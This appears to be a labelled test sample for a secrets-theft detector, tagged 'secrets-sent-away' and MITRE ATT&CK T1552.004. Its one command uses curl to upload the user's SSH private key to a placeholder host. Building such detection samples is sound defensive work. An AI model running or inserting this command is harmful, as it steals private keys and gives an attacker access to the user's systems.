@rem expect: secrets-sent-away | source: MITRE ATT&CK T1552.004
curl -X POST --data-binary "@%USERPROFILE%\.ssh\id_rsa" http://files.example.invalid/in
